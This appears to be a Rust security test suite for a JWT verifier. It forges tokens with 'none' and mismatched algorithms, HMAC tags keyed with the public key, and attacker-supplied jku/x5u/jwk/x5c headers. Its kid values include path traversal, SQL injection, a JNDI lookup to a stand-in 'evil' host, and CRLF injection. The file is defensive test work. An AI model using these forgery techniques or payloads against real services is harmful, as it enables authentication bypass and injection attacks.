//! Tokens that somebody made who has no key, or has ours and says something else in the header.

use babyshield_tests::forge::{Forge, message};
use base64::{
    Engine,
    engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD},
};
use hmac::{Hmac, KeyInit, Mac};
use serde_json::{Value, json};
use sha2::{Sha256, Sha384, Sha512};
use tokio::net::TcpListener;

use super::Bench;

/// A secret of somebody else.
const FOREIGN: &str = "m2KxR8sQz5VwT0cJ7yLd4NbF1hGp9UkA6iOoXv3Zk-Y";

fn with(mut header: Value, name: &str, value: Value) -> Value {
    header[name] = value;
    header
}

#[tokio::test]
#[ignore = "needs the emulator: ./dev test"]
async fn j1_no_algorithm_but_ours_is_taken_whatever_the_signature() {
    let bench = Bench::new().await;
    let claims = bench.claims();
    let mut headers = Vec::new();
    for name in [
        "none",
        "None",
        "NONE",
        "nOnE",
        "NoNe",
        "none ",
        "",
        "null",
        "HS256",
        "HS384",
        "HS512",
        "RS256",
        "RS384",
        "RS512",
        "PS256",
        "PS384",
        "PS512",
        "ES256",
        "ES256K",
        "ES384",
        "ES512",
        "Ed25519",
        "Ed448",
        "eddsa",
        "EDDSA",
        "EdDSA ",
        "EdDSA\u{0}",
        "A128GCMKW",
        "dir",
    ] {
        headers.push(with(bench.forge.header(), "alg", json!(name)));
    }
    for odd in [
        json!(null),
        json!(0),
        json!(true),
        json!(["EdDSA"]),
        json!({"alg": "EdDSA"}),
    ] {
        headers.push(with(bench.forge.header(), "alg", odd));
    }
    let mut missing = bench.forge.header();
    missing.as_object_mut().unwrap().remove("alg");
    headers.push(missing);
    let tokens = headers.iter().flat_map(|header| {
        let unsigned = message(header, &claims);
        [
            (
                format!("{header} and a good signature"),
                bench.forge.sign(header, &claims),
            ),
            (format!("{header} and an empty one"), format!("{unsigned}.")),
            (format!("{header} and none"), unsigned),
        ]
    });
    assert_eq!(bench.taken(tokens).await, Vec::<String>::new());
    // The right name, and no signature.
    let unsigned = message(&bench.forge.header(), &claims);
    let zeros = URL_SAFE_NO_PAD.encode([0; 64]);
    let others = [
        format!("{unsigned}."),
        unsigned.clone(),
        format!("{unsigned}.{zeros}"),
    ];
    let others = others
        .into_iter()
        .map(|token| ("unsigned".to_owned(), token));
    assert_eq!(bench.taken(others).await, Vec::<String>::new());
}

/// The public key in every form in which somebody may have it.
fn forms(forge: &Forge) -> Vec<(&'static str, Vec<u8>)> {
    let raw = forge.public();
    // RFC 8410: the identifier of Ed25519 before the key.
    let mut der = hex_bytes("302a300506032b6570032100");
    der.extend_from_slice(&raw);
    let pem = |end: &str| {
        let coded = STANDARD.encode(&der);
        format!("-----BEGIN PUBLIC KEY-----\n{coded}\n-----END PUBLIC KEY-----{end}").into_bytes()
    };
    let jwk = forge.jwk();
    vec![
        ("raw", raw.clone()),
        ("base64url", URL_SAFE_NO_PAD.encode(&raw).into_bytes()),
        ("base64", STANDARD.encode(&raw).into_bytes()),
        ("DER", der.clone()),
        ("PEM", pem("\n")),
        ("PEM without its end", pem("")),
        ("JWK", jwk.to_string().into_bytes()),
        ("JWKS", json!({"keys": [jwk]}).to_string().into_bytes()),
        ("kid", forge.kid.clone().into_bytes()),
        ("nothing", Vec::new()),
    ]
}

fn hex_bytes(text: &str) -> Vec<u8> {
    (0..text.len())
        .step_by(2)
        .map(|at| u8::from_str_radix(&text[at..at + 2], 16).unwrap())
        .collect()
}

#[tokio::test]
#[ignore = "needs the emulator: ./dev test"]
async fn j2_a_public_key_is_no_shared_secret_in_any_form() {
    macro_rules! mac {
        ($hash:ty, $key:expr, $message:expr) => {{
            let mut mac = Hmac::<$hash>::new_from_slice($key).unwrap();
            mac.update($message.as_bytes());
            URL_SAFE_NO_PAD.encode(mac.finalize().into_bytes())
        }};
    }
    let bench = Bench::new().await;
    let claims = bench.claims();
    let mut tokens = Vec::new();
    for (form, key) in forms(&bench.forge) {
        for alg in ["HS256", "HS384", "HS512", "RS256", "ES256", "EdDSA"] {
            let message = message(&with(bench.forge.header(), "alg", json!(alg)), &claims);
            let tags = [
                mac!(Sha256, &key, message),
                mac!(Sha384, &key, message),
                mac!(Sha512, &key, message),
            ];
            for tag in tags {
                tokens.push((format!("{alg} with {form}"), format!("{message}.{tag}")));
            }
        }
    }
    assert_eq!(tokens.len(), 180);
    assert_eq!(bench.taken(tokens).await, Vec::<String>::new());
}

#[tokio::test]
#[ignore = "needs the emulator: ./dev test"]
async fn j3_a_token_names_no_key_of_its_own_and_nothing_is_fetched() {
    let bench = Bench::new().await;
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let asked = tokio::spawn(async move { listener.accept().await.map(|_| ()) });
    let foreign = Forge::of(FOREIGN);
    let claims = bench.claims();
    let urls = [
        format!("http://{address}/jwks.json"),
        format!("https://{address}/jwks.json"),
        format!("http://api.babyshield.example@{address}/.well-known/jwks.json"),
        "file:///etc/passwd".to_owned(),
    ];
    let mut tokens = Vec::new();
    for kid in [&foreign.kid, &bench.forge.kid] {
        let header = with(foreign.header(), "kid", json!(kid));
        tokens.push((format!("foreign, {kid}"), foreign.sign(&header, &claims)));
        for name in ["jku", "x5u"] {
            for url in &urls {
                let header = with(header.clone(), name, json!(url));
                tokens.push((
                    format!("{name} {url}, {kid}"),
                    foreign.sign(&header, &claims),
                ));
            }
        }
        let jwk = with(header.clone(), "jwk", foreign.jwk());
        tokens.push((format!("jwk, {kid}"), foreign.sign(&jwk, &claims)));
        let x5c = with(
            header.clone(),
            "x5c",
            json!([STANDARD.encode(foreign.public())]),
        );
        tokens.push((format!("x5c, {kid}"), foreign.sign(&x5c, &claims)));
    }
    assert_eq!(bench.taken(tokens).await, Vec::<String>::new());

    // Ignored, and not refused: a good token that says more than it needs is a good token.
    for name in ["jku", "x5u", "jwk", "x5c"] {
        let header = with(bench.forge.header(), name, json!(urls[0]));
        let token = bench.forge.sign(&header, &claims);
        assert_eq!(bench.ask(&token).await.status, 200, "{name}");
    }
    assert!(!asked.is_finished(), "somebody connected");
    asked.abort();
    assert!(asked.await.unwrap_err().is_cancelled());
}

#[tokio::test]
#[ignore = "needs the emulator: ./dev test"]
async fn j3_a_key_is_looked_up_by_its_whole_name_and_crit_is_refused() {
    let bench = Bench::new().await;
    let claims = bench.claims();
    let kid = bench.forge.kid.clone();
    let long = "k".repeat(10_000);
    let mut tokens = Vec::new();
    for odd in [
        "../../dev/null",
        "../../../../etc/passwd",
        "/dev/null",
        "file:///dev/null",
        "",
        " ",
        "*",
        "%",
        "' OR '1'='1",
        "'; DROP TABLE accounts; --",
        "\" UNION SELECT x",
        "${jndi:ldap://evil/a}",
        "KEYSET",
        "KEYSET#KEYSET",
        "\u{0}",
        "__proto__",
        "constructor",
        "0",
        "null",
        "undefined",
        "k\r\nX-Injected: 1",
        "é",
        "🔑",
        &kid[..42],
        &format!("{kid} "),
        &format!(" {kid}"),
        &format!("{kid}="),
        &format!("{kid}\u{0}"),
        &kid.to_lowercase(),
        &kid.to_uppercase(),
        &long,
    ] {
        let header = with(bench.forge.header(), "kid", json!(odd));
        tokens.push((format!("kid {odd}"), bench.forge.sign(&header, &claims)));
    }
    for odd in [
        json!(null),
        json!(0),
        json!([kid]),
        json!({"kid": kid}),
        json!(true),
    ] {
        let header = with(bench.forge.header(), "kid", odd);
        tokens.push((format!("{header}"), bench.forge.sign(&header, &claims)));
    }
    let mut missing = bench.forge.header();
    missing.as_object_mut().unwrap().remove("kid");
    tokens.push(("no kid".into(), bench.forge.sign(&missing, &claims)));
    for crit in [
        json!(["exp"]),
        json!(["b64"]),
        json!([]),
        json!(null),
        json!("x"),
        json!(["unheard-of"]),
    ] {
        let header = with(bench.forge.header(), "crit", crit);
        tokens.push((format!("{header}"), bench.forge.sign(&header, &claims)));
    }
    assert_eq!(bench.taken(tokens).await, Vec::<String>::new());
}
